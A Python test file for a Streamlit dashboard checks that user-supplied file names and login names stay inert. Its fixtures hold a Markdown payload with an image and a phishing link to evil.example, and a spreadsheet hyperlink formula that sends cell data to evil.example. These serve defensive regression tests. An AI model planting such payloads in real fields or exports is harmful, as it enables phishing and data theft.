"""Findings 3 and 6: user-supplied strings stay inert.

3: a municipality uploaded a file whose name was Markdown; the national user's import
   history fetched an image from an outside host and showed a phishing link.
6: a login name typed into the sign-in form by an anonymous attacker came out as a live
   formula through Streamlit's own "Download as CSV" menu of the audit table.
"""
from __future__ import annotations

import re
import tomllib

from streamlit.testing.v1 import AppTest

from dashboard import audit, plain
from dashboard.ingest import pipeline
from ingest_fixtures import csv_bytes, new_db
from tests.conftest import ROOT

EVIL = "![x](https://evil.example/x.png)[ログイン](https://evil.example/phish)_**<b>x</b>**.csv"
FORMULA = '=hyperlink("http://evil.example/?"&a1,"詳細")'
UNESCAPED = re.compile(r"(?<!\\)[\[\]()!<>:*_]")
HEAD = ["団体コード", "年度", "業務", "費目", "区分", "金額"]
IMPORT_PAGE = ("from dashboard import accounts, session\nfrom dashboard.ui import data_import\n"
               "from dashboard.scope import Scope\n"
               "with session.acting_as(accounts.User('nat', 'local', Scope(), True)):\n"
               "    data_import.render()\n")
AUDIT_PAGE = IMPORT_PAGE.replace("data_import", "audit")


def _markdown_values(at) -> list[str]:
    kinds = ("markdown", "caption", "error", "success", "info", "warning", "title", "subheader")
    return [e.value for kind in kinds for e in getattr(at, kind)]


def test_md_escapes_every_markdown_construct():
    out = plain.md(EVIL + "\nhttps://evil.example www.evil.example a@evil.example")
    assert UNESCAPED.search(out) is None
    assert "\n" not in out
    # and nothing is lost: removing the escapes gives the text back
    assert re.sub(r"\\(.)", r"\1", out) == (EVIL + " https://evil.example www.evil.example a@evil.example")


def test_a_markdown_file_name_is_plain_text_in_the_import_history(tmp_path, monkeypatch):
    db = new_db(tmp_path / "plain.duckdb")
    monkeypatch.setenv("SANWARI_DB", str(db))
    monkeypatch.setenv("SANWARI_AUDIT", str(tmp_path / "audit.jsonl"))
    report = pipeline.import_files(db, [(EVIL, csv_bytes([HEAD, ["352012", "2026", "01", "sw_lease", "見積", "1"]]))],
                                   user="yamaguchi")
    assert report.ok
    at = AppTest.from_string(IMPORT_PAGE, default_timeout=60).run()
    assert not at.exception
    assert any(EVIL in t.value for t in at.text)              # shown, as plain text
    for value in _markdown_values(at):
        if "evil" in value:
            assert UNESCAPED.search(value) is None, value


def test_a_formula_login_name_is_neutralised_on_the_audit_page(tmp_path, monkeypatch):
    monkeypatch.setenv("SANWARI_AUDIT", str(tmp_path / "audit.jsonl"))
    monkeypatch.setenv("SANWARI_DB", str(tmp_path / "none.duckdb"))
    audit.record("login_failed", who=FORMULA, scope="-", detail={"reason": "wrong name or password"})
    audit.record("import", who="yamaguchi", scope="pref:35", target=EVIL)
    at = AppTest.from_string(AUDIT_PAGE, default_timeout=60).run()
    assert not at.exception
    table = at.dataframe[0].value
    assert "'" + FORMULA in table["利用者"].tolist()
    assert not any(str(v).startswith(("=", "+", "-", "@")) for v in table.to_numpy().ravel())
    # Streamlit's own table download and copy, which bypassed the sanitiser, are off
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert config["client"]["disableDataExport"] is True
